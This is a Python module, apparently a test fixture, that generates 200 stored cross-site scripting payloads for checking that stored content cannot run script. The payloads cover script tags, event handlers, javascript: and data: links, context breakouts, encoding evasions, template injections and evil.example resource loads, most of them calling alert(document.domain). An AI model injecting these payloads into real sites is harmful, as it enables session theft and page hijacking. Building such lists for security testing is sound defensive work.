"""Two hundred ways to get a script run by what is stored. Each would open a dialog, or be seen
trying by the content security policy."""

from itertools import product

CALL = "alert(document.domain)"
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
_TAGS = (
    "<img src=x {}>", "<svg {}>", "<details open {}>", "<input autofocus {}>", "<body {}>",
    "<video src=x {}></video>", "<iframe {}></iframe>", "<audio src=x {}>",
)  # fmt: skip
_BREAKS = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "-->{}", "]]>{}")
_SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script>",
    f"<script\n>{CALL}</script\t>",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<img src=`x`onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
)
_LINKS = tuple(
    template.format(scheme)
    for scheme, template in product(
        (
            f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"\x01javascript:{CALL}",
            f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}",
        ),
        ("{}", '<a href="{}">x</a>', "[x]({})", "![x]({})", "<{}>", '<form action="{}"><button>x'),
    )
)  # fmt: skip
_ATTRIBUTES = tuple(
    quote + f" {event}={CALL} x=" + quote for quote, event in product(("'", '"', "`", ""), _EVENTS)
)
_TEMPLATES = (
    "{{ request }}", "{{ 7*7 }}", "{% load static %}", "${" + CALL + "}", "#{" + CALL + "}",
    "{{constructor.constructor('" + CALL + "')()}}", "<template><script>" + CALL + "</script></template>",
    "\"}]};" + CALL + "//", "';" + CALL + "//", "\\';" + CALL + "//", "\u2028" + CALL + "//",
    "</script><script>" + CALL + "</script>", "<!--<script>" + CALL + "</script>",
    "&lt;script&gt;" + CALL + "&lt;/script&gt;", "&#60;script&#62;" + CALL, "%3Cscript%3E" + CALL,
    "+ADw-script+AD4-" + CALL, "＜script＞" + CALL, "<\0script>" + CALL, "<scr\0ipt>" + CALL,
    "<style>@import'javascript:" + CALL + "'</style>", "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:" + CALL + "'>", "<base href=//evil.example/>",
    "<object data=javascript:" + CALL + ">", "<embed src=javascript:" + CALL + ">",
    "<div hx-get=/logout/ hx-trigger=load>", "<div hx-on::load=" + CALL + ">",
    "<div data-dialog-auto data-copy=x>", "<dialog open>x</dialog>", "<svg><use href=data:,x>",
    "<p style=background:url(javascript:" + CALL + ")>", "<isindex type=image src=1 onerror=" + CALL + ">",
)  # fmt: skip

_MADE = [
    *_SCRIPTS,
    *_LINKS,
    *_ATTRIBUTES,
    *_TEMPLATES,
    *(tag.format(f"{event}={CALL}") for tag, event in product(_TAGS, _EVENTS)),
    *(wrap.format(script) for wrap, script in product(_BREAKS[1:], _SCRIPTS)),
]
PAYLOADS = list(dict.fromkeys(_MADE))[:200]
